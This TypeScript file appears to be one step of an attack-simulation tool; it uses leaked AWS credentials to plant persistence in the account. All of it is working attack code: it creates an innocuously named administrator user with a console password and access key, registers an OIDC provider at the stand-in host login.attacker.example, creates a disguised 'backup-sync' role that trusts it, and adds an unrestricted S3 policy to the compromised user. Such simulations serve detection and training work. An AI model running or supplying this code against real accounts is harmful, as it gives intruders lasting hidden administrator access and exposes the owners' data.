import {
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreateOpenIDConnectProviderCommand,
  CreateRoleCommand,
  CreateUserCommand,
  ListUsersCommand,
  PutUserPolicyCommand,
} from '@aws-sdk/client-iam'
import { ADMINISTRATOR_ACCESS } from '../aws/managed-policies.ts'
import type { Play } from './stage.ts'
import { createThief } from './thief.ts'

/** Makes ways back in that outlive the key. */
const UserName = 'support-svc'
const PROVIDER = 'login.attacker.example'

export const playPersistence: Play = async ({ endpoint, leaked, act }) => {
  const { iam } = createThief(endpoint, leaked)
  const account = leaked.accountId
  await act('listed the users', () => iam.send(new ListUsersCommand({})))
  await act(`made the user ${UserName}`, () => iam.send(new CreateUserCommand({ UserName })))
  await act(`made ${UserName} an administrator`, () =>
    iam.send(new AttachUserPolicyCommand({ UserName, PolicyArn: ADMINISTRATOR_ACCESS })),
  )
  await act(`gave ${UserName} a console password`, () =>
    iam.send(new CreateLoginProfileCommand({ UserName, Password: crypto.randomUUID() })),
  )
  await act(`made an access key of ${UserName}`, () =>
    iam.send(new CreateAccessKeyCommand({ UserName })),
  )
  await act(`made the OIDC provider ${PROVIDER}`, () =>
    iam.send(new CreateOpenIDConnectProviderCommand({ Url: `https://${PROVIDER}` })),
  )
  await act('made the role backup-sync, which trusts that provider', () =>
    iam.send(
      new CreateRoleCommand({
        RoleName: 'backup-sync',
        AssumeRolePolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: { Federated: `arn:aws:iam::${account}:oidc-provider/${PROVIDER}` },
              Action: 'sts:AssumeRoleWithWebIdentity',
            },
          ],
        }),
      }),
    ),
  )
  await act(`wrote a policy into ${leaked.userName}`, () =>
    iam.send(
      new PutUserPolicyCommand({
        UserName: leaked.userName,
        PolicyName: 'debug',
        PolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Effect: 'Allow', Action: 's3:*', Resource: '*' }],
        }),
      }),
    ),
  )
}
